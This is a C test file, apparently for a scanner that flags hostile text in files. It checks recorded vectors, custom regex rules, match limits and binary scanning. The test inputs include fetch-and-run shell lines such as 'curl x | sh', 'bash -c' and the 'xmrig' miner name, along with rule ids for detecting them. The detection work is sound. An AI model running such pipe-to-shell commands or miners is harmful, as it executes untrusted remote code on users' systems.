// SPDX-License-Identifier: Apache-2.0
//
// The scanner against the recorded vectors, and its own promises: custom
// rules, limits that fail, hostile text that does no harm.
#include <errno.h>
#include <jansson.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "hostile_scan.h"
#include "lib/fake_clock.h"
#include "lib/scanner.h"
#include "sanitize/sanitize.h"
#include "sanitize/scan.h"
#include "sanitize/scan_text.h"

// ------------------------------------------------------------------- vectors

static size_t line_of(const char *text, size_t at)
{
	size_t line = 1;

	while (at-- > 0)
		line += text[at] == '\n';
	return line;
}

// The recorded texts were clipped to 100 UTF-16 units.
static size_t utf16_clip(const char *text, size_t units)
{
	size_t at = 0;

	while (text[at] != '\0') {
		unsigned char c = (unsigned char)text[at];
		size_t length = c < 0x80 ? 1 : c < 0xe0 ? 2 : c < 0xf0 ? 3 : 4;
		size_t cost = length == 4 ? 2 : 1;

		if (cost > units)
			break;
		units -= cost;
		at += length;
	}
	return at;
}

static bool same(const json_t *want, const struct finding *have)
{
	const json_t *position = json_object_get(want, "positionBytes");
	const char *matched = json_string_value(json_object_get(want, "matchedText"));

	return strcmp(json_string_value(json_object_get(want, "ruleId")), have->rule->id) == 0 &&
	       strcmp(json_string_value(json_object_get(want, "category")), have->rule->category) == 0 &&
	       strcmp(json_string_value(json_object_get(want, "severity")), severity_name(have->severity)) ==
		       0 &&
	       (size_t)json_integer_value(json_object_get(want, "lineNumber")) == have->line &&
	       (!json_is_integer(position) || (size_t)json_integer_value(position) == have->byte_offset) &&
	       strlen(matched) == utf16_clip(have->matched_text, 100) &&
	       memcmp(matched, have->matched_text, strlen(matched)) == 0;
}

static void scan_text(const char *text, size_t len, struct findings *ret)
{
	struct matches matches = { NULL, 0, 0 };
	size_t i;

	assert_int_equal(scanner_scan(scanner, CLASS_PROSE, text, len, NULL, &matches), 0);
	for (i = 0; i < matches.count; i++) {
		const struct match *match = &matches.items[i];
		struct finding finding = {
			.rule = scanner_rule(scanner, match->rule),
			.severity = match->severity,
			.byte_offset = match->start,
			.line = line_of(text, match->start),
		};

		assert_int_equal(findings_add(ret, &finding, text + match->start, match->end - match->start),
				 0);
	}
	findings_sort(ret);
	matches_release(&matches);
}

// The number of findings that are missing or too many.
static int compare(const char *id, const char *field, const json_t *want, const char *text, size_t len)
{
	struct findings findings = { NULL, 0, 0, 0 };
	size_t i, j;
	int wrong = 0;
	bool *used;

	scan_text(text, len, &findings);
	used = calloc(findings.count + 1, sizeof(*used));
	assert_non_null(used);
	for (i = 0; i < json_array_size(want); i++) {
		const json_t *item = json_array_get(want, i);

		for (j = 0; j < findings.count && (used[j] || !same(item, &findings.items[j])); j++)
			;
		if (j < findings.count) {
			used[j] = true;
			continue;
		}
		print_error("%s %s: missing %s at %lld\n", id, field,
			    json_string_value(json_object_get(item, "ruleId")),
			    (long long)json_integer_value(json_object_get(item, "positionBytes")));
		wrong++;
	}
	for (j = 0; j < findings.count; j++) {
		if (used[j])
			continue;
		print_error("%s %s: unexpected %s at %zu, line %zu: %s\n", id, field,
			    findings.items[j].rule->id, findings.items[j].byte_offset, findings.items[j].line,
			    findings.items[j].matched_text);
		wrong++;
	}
	free(used);
	findings_release(&findings);
	return wrong;
}

static bool binds(const json_t *vector, const char *field)
{
	const json_t *fields = json_object_get(vector, "divergence_fields");
	size_t i;

	if (!json_is_true(json_object_get(vector, "divergence_ok")))
		return true;
	for (i = 0; i < json_array_size(fields); i++) {
		if (strcmp(json_string_value(json_array_get(fields, i)), field) == 0)
			return false;
	}
	return true;
}

static int compare_pipeline(const char *id, const json_t *vector, const json_t *want, const char *text,
			    size_t len)
{
	const json_t *limit = json_object_get(vector, "maxBodyLength");
	size_t max = json_is_integer(limit) ? (size_t)json_integer_value(limit) : MAX_BODY_LENGTH_DEFAULT,
	       kept;
	struct cleaned cleaned = { 0 };
	struct sanitize_stats stats = { 0 };
	struct notices notices = { NULL, 0, 0 };
	struct buf body = BUF_INIT;
	int wrong;

	assert_int_equal(sanitize_text(text, len, NULL, &cleaned, &stats, &notices), 0);
	if (!cleaned.unchanged) {
		text = cleaned.text.data == NULL ? "" : cleaned.text.data;
		len = cleaned.text.len;
	}
	kept = sanitize_cut(text, len, max);
	assert_int_equal(buf_append(&body, text, kept), 0);
	if (kept < len)
		assert_int_equal(buf_append_string(&body, TRUNCATED_MARKER), 0);
	wrong = compare(id, "pipeline_scan", want, body.data, body.len);
	buf_release(&body);
	cleaned_release(&cleaned);
	notices_release(&notices);
	return wrong;
}

static void vectors_all_match_recorded_findings(void **state)
{
	FILE *file = fopen(TEST_DATA "/vectors/scan.jsonl", "r");
	int wrong = 0, vectors = 0, unreadable = 0, compared = 0;
	char *line = NULL;
	size_t cap = 0;
	ssize_t got;

	(void)state;
	assert_non_null(file);
	while ((got = getline(&line, &cap, file)) > 0) {
		json_t *vector = json_loadb(line, (size_t)got, JSON_ALLOW_NUL, NULL), *text, *expect;
		const char *id;

		vectors++;
		if (vector == NULL) {
			// A lone surrogate: no UTF-8 text can hold it.
			unreadable++;
			continue;
		}
		id = json_string_value(json_object_get(vector, "id"));
		text = json_object_get(vector, "text");
		expect = json_object_get(vector, "expect");
		if (binds(vector, "scan")) {
			wrong += compare(id, "scan", json_object_get(expect, "scan"), json_string_value(text),
					 json_string_length(text));
			compared++;
		}
		if (binds(vector, "pipeline_scan")) {
			wrong += compare_pipeline(id, vector, json_object_get(expect, "pipeline_scan"),
						  json_string_value(text), json_string_length(text));
			compared++;
		}
		json_decref(vector);
	}
	free(line);
	(void)fclose(file);
	print_message("%d vectors, %d comparisons, %d not representable in UTF-8\n", vectors, compared,
		      unreadable);
	assert_int_equal(vectors, 380);
	assert_in_range(unreadable, 0, 8);
	assert_int_equal(wrong, 0);
}

// ------------------------------------------------------------------ promises

static void scan_class(enum file_class cls, const char *text, size_t len, struct matches *ret)
{
	assert_int_equal(scanner_scan(scanner, cls, text, len, NULL, ret), 0);
}

static void scan_empty_text_finds_nothing(void **state)
{
	struct matches matches = { NULL, 0, 0 };

	(void)state;
	scan_class(CLASS_PROSE, NULL, 0, &matches);
	assert_int_equal(matches.count, 0);
	scan_class(CLASS_BINARY, "", 0, &matches);
	assert_int_equal(matches.count, 0);
}

static void scan_text_orders_matches_by_start_then_rule(void **state)
{
	static const char text[] = "xmrig `curl x | sh` $(curl x | sh)";
	struct matches matches = { NULL, 0, 0 };
	size_t i;

	(void)state;
	scan_class(CLASS_PROSE, text, strlen(text), &matches);
	assert_true(matches.count >= 6);
	for (i = 1; i < matches.count; i++) {
		const struct match *a = &matches.items[i - 1], *b = &matches.items[i];

		assert_true(a->start < b->start || (a->start == b->start && a->rule < b->rule));
	}
	assert_int_equal(matches.items[0].context, CONTEXT_PROSE);
	assert_int_equal(matches.items[1].context, CONTEXT_INLINE_CODE);
	matches_release(&matches);
}

static void scan_code_has_one_context_and_no_tables(void **state)
{
	static const char text[] = "|a|b|\n|-|-|\n|bash -c x|y|\n";
	struct matches matches = { NULL, 0, 0 };

	(void)state;
	scan_class(CLASS_CODE, text, strlen(text), &matches);
	assert_int_equal(matches.count, 1);
	assert_int_equal(matches.items[0].context, CONTEXT_CODE);
	assert_int_equal(matches.items[0].severity, SEVERITY_CRITICAL);
	matches_release(&matches);
}

static void scan_binary_finds_text_between_bytes(void **state)
{
	static const char data[] = "\x7f"
				   "ELF\0\0\x01"
				   "curl http://x | sh\0\xff\xfexmrig\0$(\0curl x)\0|sh\0";
	struct matches matches = { NULL, 0, 0 };

	(void)state;
	scan_class(CLASS_BINARY, data, sizeof(data), &matches);
	assert_int_equal(matches.count, 3);
	assert_string_equal(scanner_rule(scanner, matches.items[0].rule)->id, "NET_CURL_PIPE");
	assert_memory_equal(data + matches.items[0].start, "curl http://x | sh", 18);
	assert_int_equal(matches.items[0].context, CONTEXT_BINARY);
	assert_string_equal(scanner_rule(scanner, matches.items[1].rule)->id, "EXEC_PIPE_BASH");
	assert_string_equal(scanner_rule(scanner, matches.items[2].rule)->id, "CRYPTO_MINER_BINARY");
	matches_release(&matches);
}

// A picture is not hidden by chance.
static void scan_random_bytes_as_binary_finds_nothing(void **state)
{
	const size_t len = (size_t)4 << 20;
	struct matches matches = { NULL, 0, 0 };
	uint64_t seed = 0x9e3779b97f4a7c15;
	char *data = malloc(len);
	size_t i;

	(void)state;
	assert_non_null(data);
	for (i = 0; i < len; i++)
		data[i] = (char)(random_next(&seed) >> 24);
	scan_class(CLASS_BINARY, data, len, &matches);
	assert_int_equal(matches.count, 0);
	free(data);
}

// What an own pattern begins with must not be taken for narrower than it is.
static void scanner_with_custom_rule_finds_odd_beginnings(void **state)
{
	static const struct {
		const char *pattern, *text;
		enum file_class cls;
	} items[] = {
		{ "(?<!\\$){name}", "a {name}", CLASS_PROSE },
		{ "set{2,x}", "set{2,x}", CLASS_PROSE },
		{ "(?<![A-Z])[A-Z]{50,}|secret", "a secret", CLASS_PROSE },
		{ "(?<![+-\\x7f])[+-\\x7f]{50,}|secret", "a secret", CLASS_BINARY },
		{ "(?<![+-\\x7f])[+-\\x7f]{50,}",
		  "zzz\x7f"
		  "abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz",
		  CLASS_BINARY },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(items) / sizeof(items[0]); i++) {
		const struct custom_rule custom = { "MY_ODD", "x", SEVERITY_WARN, items[i].pattern, "" };
		struct matches matches = { NULL, 0, 0 };
		struct scanner *own;

		assert_int_equal(scanner_new(&custom, 1, &own, NULL), 0);
		assert_int_equal(
			scanner_scan(own, items[i].cls, items[i].text, strlen(items[i].text), NULL, &matches),
			0);
		if (matches.count != 1)
			fail_msg("%s: %zu", items[i].pattern, matches.count);
		matches_release(&matches);
		scanner_free(own);
	}
}

static void scanner_with_custom_rule_finds_it(void **state)
{
	const struct custom_rule custom[] = {
		{ "MY_TOKEN", "secrets", SEVERITY_WARN, "tok_[0-9a-f]{8}", "A token of ours" },
		{ "MY_END", "secrets", SEVERITY_CRITICAL, "the end$", "The end" },
	};
	static const char text[] = "printenv TOK_0123abcd the end";
	struct matches matches = { NULL, 0, 0 };
	struct scanner *own;

	(void)state;
	assert_int_equal(scanner_new(custom, 2, &own, NULL), 0);
	assert_int_equal(scanner_rule_count(own), rule_count + 2);
	assert_int_equal(scanner_scan(own, CLASS_PROSE, text, strlen(text), NULL, &matches), 0);
	assert_int_equal(matches.count, 3);
	assert_int_equal(matches.items[1].rule, rule_count);
	assert_string_equal(scanner_rule(own, matches.items[1].rule)->description, "A token of ours");
	assert_int_equal(matches.items[2].severity, SEVERITY_CRITICAL);
	matches_release(&matches);
	scanner_free(own);
}

static void scanner_with_bad_pattern_names_rule_offset_and_reason(void **state)
{
	const struct custom_rule custom = { "MY_BAD", "x", SEVERITY_WARN, "ab(c", "x" };
	static const char *const endless[] = { "(?R)", "((?R)|x)", "(a?(?1)|x)" };
	const struct custom_rule utf = { "MY_UTF", "x", SEVERITY_WARN, "(*UTF)x", "x" };
	struct scanner *own = NULL;
	struct error error = { "" };

	(void)state;
	assert_int_equal(scanner_new(&custom, 1, &own, &error), -EINVAL);
	assert_null(own);
	assert_non_null(strstr(error.message, "MY_BAD"));
	assert_non_null(strstr(error.message, "offset 4"));
	assert_non_null(strstr(error.message, "parenthes"));
	assert_int_equal(scanner_new(&utf, 1, &own, &error), -EINVAL);
	assert_null(own);
	for (size_t i = 0; i < sizeof(endless) / sizeof(endless[0]); i++) {
		const struct custom_rule custom_endless = { "MY_ENDLESS", "x", SEVERITY_WARN, endless[i],
							    "x" };

		assert_int_equal(scanner_new(&custom_endless, 1, &own, &error), -EINVAL);
		assert_null(own);
		assert_non_null(strstr(error.message, "MY_ENDLESS"));
	}
}

static void scan_beyond_limits_fails(void **state)
{
	const struct custom_rule bad = { "MY_EXPONENTIAL", "x", SEVERITY_WARN, "(?:a|aa)+[bc]", "x" };
	const size_t len = 100000;
	char *text = malloc(len);
	int jit;

	(void)state;
	assert_non_null(text);
	memset(text, 'a', len);
	for (jit = 0; jit < 2; jit++) {
		struct matches matches = { NULL, 0, 0 };
		struct scanner *own;

		assert_int_equal(scanner_compile(&bad, 1, jit == 1, PREFILTER_BEST, &own, NULL), 0);
		assert_int_equal(scanner_scan(own, CLASS_CODE, text, len, NULL, &matches), -EOVERFLOW);
		matches_release(&matches);
		scanner_free(own);
	}
	free(text);
}

// One try of an own rule can read all of the text, and PCRE2's limits don't count that.
static void scan_own_rule_asks_the_budget_all_along(void **state)
{
	static const char *const patterns[] = { "([a-z]{2,})\\d", "q.*?Z9", "qzxj[a-z]*_tok" };
	const size_t len = 65536;
	char *text = malloc(len);
	size_t i;

	(void)state;
	assert_non_null(text);
	for (i = 0; i < len; i++)
		text[i] = "qzxj"[i % 4];
	for (i = 0; i < sizeof(patterns) / sizeof(patterns[0]); i++) {
		const struct custom_rule custom = { "MY_SLOW", "x", SEVERITY_WARN, patterns[i], "x" };
		struct fake_clock clock = { 0, 2 };
		const struct budget budget = fake_clock_budget(&clock);
		struct matches matches = { NULL, 0, 0 };
		struct scanner *own;

		assert_int_equal(scanner_new(&custom, 1, &own, NULL), 0);
		assert_int_equal(scanner_scan(own, CLASS_CODE, text, len, &budget, &matches), -EOVERFLOW);
		assert_int_equal(clock.asked, 3);
		matches_release(&matches);
		scanner_free(own);
	}
	free(text);
}

static void scan_own_rule_that_wants_no_jit_is_found(void **state)
{
	const struct custom_rule custom = { "MY_RULE", "x", SEVERITY_WARN, "(*NO_JIT)fox", "x" };
	struct matches matches = { NULL, 0, 0 };
	struct scanner *own;

	(void)state;
	assert_int_equal(scanner_new(&custom, 1, &own, NULL), 0);
	assert_int_equal(scanner_has_jit(own), scanner_has_jit(scanner));
	assert_int_equal(scanner_scan(own, CLASS_CODE, "a fox", 5, NULL, &matches), 0);
	assert_int_equal(matches.count, 1);
	matches_release(&matches);
	scanner_free(own);
}

// The first of them are given, so that somebody can see what it is.
static void scan_with_too_many_matches_gives_the_first(void **state)
{
	static const char unit[] = "xmrig ";
	const size_t most = 65536, len = (most + 1) * strlen(unit);
	struct matches matches = { NULL, 0, 0 };
	char *text = malloc(len + 1);
	size_t at;

	(void)state;
	assert_non_null(text);
	for (at = 0; at < len; at += strlen(unit))
		memcpy(text + at, unit, sizeof(unit));
	assert_int_equal(scanner_scan(scanner, CLASS_CODE, text, len - strlen(unit), NULL, &matches), 0);
	assert_int_equal(matches.count, most);
	matches_release(&matches);
	assert_int_equal(scanner_scan(scanner, CLASS_CODE, text, len, NULL, &matches), -EOVERFLOW);
	assert_int_equal(matches.count, most);
	assert_int_equal(matches.items[most - 1].start, (most - 1) * strlen(unit));
	matches_release(&matches);
	free(text);
}

static void scan_with_empty_pattern_finishes(void **state)
{
	const struct custom_rule custom = { "MY_EMPTY", "x", SEVERITY_WARN, "a*|b*", "x" };
	struct matches matches = { NULL, 0, 0 };
	struct scanner *own;

	(void)state;
	// Empty matches don't count and don't loop.
	assert_int_equal(scanner_new(&custom, 1, &own, NULL), 0);
	assert_int_equal(scanner_scan(own, CLASS_CODE, "xxaxxbb", 7, NULL, &matches), 0);
	assert_int_equal(matches.count, 2);
	matches_release(&matches);
	scanner_free(own);
}

static void scanner_ruleset_names_version_and_changes_with_rules(void **state)
{
	const struct custom_rule a = { "MY_A", "x", SEVERITY_WARN, "aa", "x" };
	const struct custom_rule b = { "MY_A", "x", SEVERITY_CRITICAL, "aa", "x" };
	const char *plain = scanner_ruleset(scanner);
	struct scanner *with_a, *with_b;

	(void)state;
	assert_int_equal(strlen(plain), strlen(RULESET_VERSION) + 17);
	assert_memory_equal(plain, RULESET_VERSION "+", strlen(RULESET_VERSION) + 1);
	assert_int_equal(strspn(plain + strlen(RULESET_VERSION) + 1, "0123456789abcdef"), 16);
	assert_int_equal(scanner_new(&a, 1, &with_a, NULL), 0);
	assert_int_equal(scanner_new(&b, 1, &with_b, NULL), 0);
	assert_string_not_equal(plain, scanner_ruleset(with_a));
	assert_string_not_equal(scanner_ruleset(with_a), scanner_ruleset(with_b));
	scanner_free(with_a);
	scanner_free(with_b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(vectors_all_match_recorded_findings),
		cmocka_unit_test(scan_empty_text_finds_nothing),
		cmocka_unit_test(scan_text_orders_matches_by_start_then_rule),
		cmocka_unit_test(scan_code_has_one_context_and_no_tables),
		cmocka_unit_test(scan_binary_finds_text_between_bytes),
		cmocka_unit_test(scan_random_bytes_as_binary_finds_nothing),
		cmocka_unit_test(scanner_with_custom_rule_finds_it),
		cmocka_unit_test(scanner_with_custom_rule_finds_odd_beginnings),
		cmocka_unit_test(scanner_with_bad_pattern_names_rule_offset_and_reason),
		cmocka_unit_test(scan_beyond_limits_fails),
		cmocka_unit_test(scan_own_rule_asks_the_budget_all_along),
		cmocka_unit_test(scan_own_rule_that_wants_no_jit_is_found),
		cmocka_unit_test(scan_with_too_many_matches_gives_the_first),
		cmocka_unit_test(scan_with_empty_pattern_finishes),
		cmocka_unit_test(scanner_ruleset_names_version_and_changes_with_rules),
	};

	return cmocka_run_group_tests(tests, scanner_set_up, scanner_tear_down);
}
